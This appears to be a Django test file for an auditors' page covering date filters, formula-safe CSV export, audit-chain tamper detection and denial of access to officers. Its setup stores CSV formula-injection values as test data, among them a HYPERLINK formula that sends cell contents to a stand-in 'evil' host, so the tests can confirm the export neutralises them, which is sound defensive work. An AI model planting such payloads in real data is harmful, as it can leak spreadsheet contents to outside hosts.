"""The auditors' page (issue 9, item 3): filter by dates, export CSV (formula-safe, audited), and the
chain's verification status."""

import csv
import io
from datetime import UTC, datetime

import time_machine

from corredor.core.audit import Actor, acting_as, audit_write
from corredor.core.models import AuditEntry
from tests.core.test_audit import without_triggers
from tests.personas import PersonaTestCase


class AuditPageTests(PersonaTestCase):
    @classmethod
    def setUpTestData(cls) -> None:
        super().setUpTestData()
        for day in (1, 10, 20):
            with time_machine.travel(datetime(2024, 3, day, 15, tzinfo=UTC), tick=False):
                audit_write(action="read", object_type="border.crossing", object_id=f"march-{day}")
        with acting_as(Actor(username='=HYPERLINK("http://evil/?"&A1,"x")', role="", origin="@sum(1)")):
            audit_write(action="login_failed", object_type="core.user", summary="-2+3")

    def test_the_auditor_filters_by_dates(self) -> None:
        self.client.force_login(self.aud)
        html = self.client.get("/audit/", {"from": "2024-03-05", "to": "2024-03-20"}).content.decode()
        assert "march-10" in html and "march-20" in html
        assert "march-1 " not in html and "march-1<" not in html

    def test_a_bad_date_says_so_and_is_not_a_500(self) -> None:
        self.client.force_login(self.aud)
        response = self.client.get("/audit/", {"from": "2024-02-31"}, headers={"Accept-Language": "en"})
        assert response.status_code == 200
        assert "is not a date" in response.content.decode()

    def test_export_is_csv_formula_safe_and_audited(self) -> None:
        self.client.force_login(self.aud)
        response = self.client.get("/audit/export.csv", {"from": "2024-03-01"})
        assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
        rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
        assert rows[0][:3] == ["sequence", "at", "username"]
        cells = [cell for row in rows[1:] for cell in row[2:9]]
        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
        assert '\'=HYPERLINK("http://evil/?"&A1,"x")' in cells and "'@sum(1)" in cells and "'-2+3" in cells
        export = AuditEntry.objects.filter(action="export", username="aud").get()
        assert "from=2024-03-01" in export.summary

    def test_the_page_shows_the_chains_status(self) -> None:
        self.client.force_login(self.aud)
        page = self.client.get("/audit/").content.decode()
        assert 'hx-get="/audit/status/"' in page
        status = self.client.get("/audit/status/").content.decode()
        assert 'data-chain="intact"' in status
        without_triggers()
        AuditEntry.objects.filter(object_id="march-10").update(summary="nothing to see")
        status = self.client.get("/audit/status/").content.decode()
        assert 'data-chain="broken"' in status and "content changed" in status

    def test_an_officer_is_refused_the_page_the_status_and_the_export(self) -> None:
        self.client.force_login(self.alice)
        before = AuditEntry.objects.filter(action="export").count()
        for url in ("/audit/", "/audit/status/", "/audit/export.csv"):
            assert self.client.get(url).status_code == 403, url
        assert AuditEntry.objects.filter(action="export").count() == before
        assert (
            AuditEntry.objects.filter(action="denied", username="alice", object_id="audit_log").count() == 3
        )

    def test_the_role_reads_in_the_readers_language(self) -> None:
        with acting_as(Actor(username="wm", role="watchlist_manager", origin="test")):
            audit_write(action="read", object_type="screening.watchlist", object_id="role-label")
        self.client.force_login(self.aud)
        spanish = self.client.get("/audit/", headers={"Accept-Language": "es"}).content.decode()
        english = self.client.get("/audit/", headers={"Accept-Language": "en"}).content.decode()
        assert "<td>Gestor de listas de alerta</td>" in spanish
        assert "<td>Watchlist manager</td>" in english
        assert "<td>watchlist_manager</td>" not in english
